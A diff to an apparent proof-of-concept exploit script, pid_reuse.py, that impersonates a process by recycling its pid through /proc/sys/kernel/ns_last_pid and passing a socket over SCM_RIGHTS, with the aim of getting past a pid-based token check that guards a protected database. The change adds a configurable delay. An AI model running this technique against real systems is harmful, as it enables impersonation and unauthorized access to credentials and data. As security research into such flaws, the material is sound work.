@@ -2,12 +2,12 @@
 
 Run as root inside the runner cgroup, with no token in its own environment:
 
-    python3 pid_reuse.py HOST PORT TOKEN_FILE
+    python3 pid_reuse.py HOST PORT TOKEN_FILE DELAY
 
 1. A child process connects to HOST:PORT (the protected database: the kernel redirects it to
    the agent and records the child's pid), passes the socket to this process over a Unix
    socket (SCM_RIGHTS) and exits.
-2. This process makes the kernel hand the child's pid to the next process it creates, by writing
+2. After DELAY seconds, this process makes the kernel hand the child's pid to the next process it creates, by writing
    pid - 1 to /proc/sys/kernel/ns_last_pid (CAP_SYS_ADMIN), and forks an impostor under that pid:
    the same executable (so the same comm), the same uid and cgroup, and a valid token file named
    by AZURE_FEDERATED_TOKEN_FILE in its environment.
@@ -24,8 +24,9 @@ import signal
 import socket
 import struct
 import sys
+import time
 
-HOST, PORT, TOKEN_FILE = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+HOST, PORT, TOKEN_FILE, DELAY = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
 ATTEMPTS = 50
 
 
@@ -105,6 +106,7 @@ def read_answer(conn):
 def main():
     for _ in range(ATTEMPTS):
         pid, conn = connect_in_child()
+        time.sleep(DELAY)
         impostor = impostor_at(pid)
         if impostor is None:
             conn.close()
